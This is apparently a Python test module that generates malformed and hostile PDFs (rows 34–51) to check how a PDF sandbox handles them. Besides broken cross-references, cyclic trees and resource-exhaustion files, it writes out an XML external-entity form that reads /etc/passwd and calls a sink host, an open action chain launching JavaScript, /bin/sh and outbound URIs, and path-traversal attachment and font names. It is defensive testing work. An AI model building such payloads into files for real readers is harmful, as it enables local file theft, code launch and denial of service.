"""Rows 34 to 51: PDFs whose objects, tables and trees are broken, endless, encrypted or point elsewhere."""

from __future__ import annotations

import io

from apps.pages.sandbox.preload import assembled_pdf, small_pdf
from tests.documents import hostile
from tests.documents.hostile import SINK, Hostile, one_page, outcomes, stream

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
_RESULT = outcomes("result")


def truncated_at_half() -> bytes:
    whole = one_page(b"BT /F 12 Tf 72 700 Td (Ready) Tj ET\n" * 200)
    return whole[: len(whole) // 2]


def without_cross_references() -> bytes:
    whole = small_pdf()
    return whole[: whole.index(b"xref\n")] + b"trailer<</Size 6/Root 1 0 R>>\n%%EOF\n"


def wrong_offsets() -> bytes:
    whole = small_pdf()
    start = whole.index(b"xref\n")
    return whole[:start] + whole[start:].replace(b"00000 n", b"00000 n").replace(b"\n00000000", b"\n00000009")


def previous_is_itself() -> bytes:
    whole = small_pdf()
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % whole.index(b"xref\n"))


def many_times_one_page() -> bytes:
    """Return 200,000 kids that are the same page."""
    return assembled_pdf(_CATALOG, b"<</Type/Pages/Count 200000/Kids[%s]>>" % (b"3 0 R " * 200_000), _PAGE)


def doubling_page_tree() -> bytes:
    """Return a tree of 20 levels, in which each node has the next one twice: 2^20 leaves in 2 KB."""
    nodes = [b"<</Type/Pages/Count %d/Kids[%d 0 R %d 0 R]>>" % (1 << 20, n + 1, n + 1) for n in range(2, 22)]
    return assembled_pdf(_CATALOG, *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def object_stream_extends_itself() -> bytes:
    packed = stream(b"3 0 <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", b"/Type/ObjStm/N 1/First 4/Extends 4 0 R")
    return assembled_pdf(_CATALOG, _PAGES, _PAGE, packed)


def zero_width_cross_references() -> bytes:
    """Return a PDF whose cross-reference stream has entries of no bytes."""
    whole = small_pdf()
    start = whole.index(b"xref\n")
    entries = b"/Type/XRef/W[0 0 0]/Size 1000000/Root 1 0 R"
    return whole[:start] + b"9 0 obj\n" + stream(b"", entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def outline_cycle() -> bytes:
    return assembled_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>", _PAGES, _PAGE, b"<</First 5 0 R/Last 5 0 R/Count 9>>",
        b"<</Title(a)/Parent 4 0 R/Next 6 0 R/First 4 0 R>>", b"<</Title(b)/Parent 4 0 R/Next 5 0 R/Prev 5 0 R>>",
    )  # fmt: skip


def names_cycle() -> bytes:
    return assembled_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R/Dests 4 0 R>>/PageLabels 5 0 R>>", _PAGES, _PAGE,
        b"<</Limits[(a)(z)]/Kids[4 0 R 4 0 R]>>", b"<</Kids[5 0 R]>>",
    )  # fmt: skip


def nested_arrays() -> bytes:
    return assembled_pdf(_CATALOG, _PAGES, _PAGE[:-2] + b"/Deep " + b"[" * 200_000 + b"]" * 200_000 + b">>")


def incremental_updates(count: int = 100_000) -> bytes:
    whole, previous = bytearray(small_pdf()), small_pdf().index(b"xref\n")
    for _ in range(count):
        at = len(whole)
        whole += b"6 0 obj null endobj\nxref\n6 1\n%010d 00000 n \n" % at
        here = at + len(b"6 0 obj null endobj\n")
        whole += b"trailer<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (previous, here)
        previous = here
    return bytes(whole)


def opened_by_owner_only() -> bytes:
    """Return a PDF that opens without a password, and whose owner password nobody gives."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(small_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="sesame", user=""))
    return out.getvalue()


def encrypted_for_certificates() -> bytes:
    whole = small_pdf()
    handler = b"/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/R 4/CF<</DefaultCryptFilter"
    handler += b"<</CFM/AESV2/Recipients[<30>]>>>>/StmF/DefaultCryptFilter/StrF/DefaultCryptFilter>>/ID[<00><00>]"
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R" + handler)


def form_with_external_entity() -> bytes:
    xfa = b'<!DOCTYPE x [<!ENTITY a SYSTEM "%s/a"><!ENTITY b SYSTEM "file:///etc/passwd">]>' % SINK.encode()
    xfa += b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&a;&b;</xdp:xdp>"
    return assembled_pdf(b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>", _PAGES, _PAGE, stream(xfa))


def acts_when_opened() -> bytes:
    actions = [
        b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\))>>" % SINK.encode(),
        b"<</S/Launch/F(/bin/sh)>>",
        b"<</S/URI/URI(%s/uri)>>" % SINK.encode(),
        b"<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share\\\\x.pdf)/D[0/Fit]>>",
    ]
    chain = b"".join(action[:-2] + b"/Next " for action in actions[:-1]) + actions[-1] + b">>" * (len(actions) - 1)
    return assembled_pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction " + chain + b">>", _PAGES, _PAGE)


def attachments_with_paths() -> bytes:
    """Return a thousand attached files whose names lead out of any folder."""
    files = [b"<</Type/Filespec/F(../../x%d)/UF(../../x%d)/EF<</F 4 0 R>>>>" % (n, n) for n in range(1000)]
    names = b" ".join(b"(%04d) %d 0 R" % (number, number + 5) for number in range(1000))
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%s]>>>>>>" % names
    return assembled_pdf(catalog, _PAGES, _PAGE, stream(b"I was here", b"/Type/EmbeddedFile"), *files)


def character_map_outside() -> bytes:
    """Return a font whose character map is a path: a careless reader would load code from there."""
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/..#2f..#2f..#2ftmp#2fmarker/DescendantFonts[6 0 R]>>"
    descendant = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(..)/Ordering(..)/Supplement 0>>>>"
    )
    content = b"BT /F 12 Tf 72 700 Td <00410042> Tj ET"
    return one_page(content, font, descendant, resources=b"/Font<</F 5 0 R>>")


def lengthened(entries: bytes) -> bytes:
    """Return a PDF whose page content claims a length of two gigabytes."""
    return small_pdf().replace(b"<</Length ", b"<</Length 2147483647%s/Was " % entries)


ROWS = [
    Hostile(34, "truncated-at-half", truncated_at_half, _RESULT),
    Hostile(35, "no-cross-references", without_cross_references, _RESULT),
    Hostile(35, "wrong-offsets", wrong_offsets, _RESULT),
    Hostile(36, "previous-table-is-itself", previous_is_itself, _RESULT),
    Hostile(37, "page-tree-in-itself", hostile.looping_page_tree, outcomes("document_corrupt")),
    Hostile(38, "count-of-two-billion", lambda: small_pdf().replace(b"/Count 1", b"/Count 2147483647"), _RESULT),
    Hostile(39, "200000-times-one-page", many_times_one_page,
            outcomes("too_many_pages document_timeout"), is_slow=True),
    Hostile(40, "doubling-page-tree", doubling_page_tree, outcomes("document_corrupt too_many_pages document_timeout"),
            is_slow=True),
    Hostile(41, "no-pages", lambda: assembled_pdf(_CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"),
            outcomes("document_empty")),
    Hostile(41, "no-page-tree", lambda: assembled_pdf(b"<</Type/Catalog>>"),
            outcomes("document_corrupt document_empty")),
    Hostile(41, "root-is-an-array", lambda: assembled_pdf(b"[1 0 R]"), outcomes("document_corrupt document_empty")),
    Hostile(42, "object-stream-extends-itself", object_stream_extends_itself, _RESULT),
    Hostile(42, "cross-references-of-no-bytes", zero_width_cross_references, outcomes("document_corrupt result")),
    Hostile(42, "size-of-two-billion", lambda: small_pdf().replace(b"/Size 6", b"/Size 2147483647"),
            outcomes("document_corrupt result")),
    Hostile(42, "length-of-two-billion", lambda: lengthened(b""), outcomes("document_corrupt result")),
    Hostile(43, "outline-cycle", outline_cycle, _RESULT),
    Hostile(43, "names-cycle", names_cycle, _RESULT),
    Hostile(44, "200000-nested-arrays", nested_arrays, outcomes("result document_corrupt document_empty")),
    Hostile(45, "100000-updates", incremental_updates, outcomes("result document_timeout page_timeout"), is_slow=True),
    Hostile(46, "encrypted-no-password", lambda: hostile.encrypted("sesame"), outcomes("document_encrypted")),
    Hostile(46, "encrypted-wrong-password", lambda: hostile.encrypted("sesame"), outcomes("wrong_password"),
            password="open"),
    Hostile(46, "encrypted-right-password", lambda: hostile.encrypted("sesame"), _RESULT, password="sesame"),
    Hostile(46, "owner-password-only", opened_by_owner_only, _RESULT),
    Hostile(46, "certificate", encrypted_for_certificates, outcomes("encryption_unsupported")),
    Hostile(47, "form-with-external-entity", form_with_external_entity, _RESULT),
    Hostile(48, "acts-when-opened", acts_when_opened, _RESULT),
    Hostile(49, "1000-attachments-with-paths", attachments_with_paths, _RESULT),
    Hostile(50, "character-map-outside", character_map_outside, _RESULT),
    Hostile(51, "two-glued", lambda: small_pdf() + small_pdf(), _RESULT),
    Hostile(51, "text-after-the-end", lambda: small_pdf() + b"more text\n" * 200, _RESULT),
]  # fmt: skip
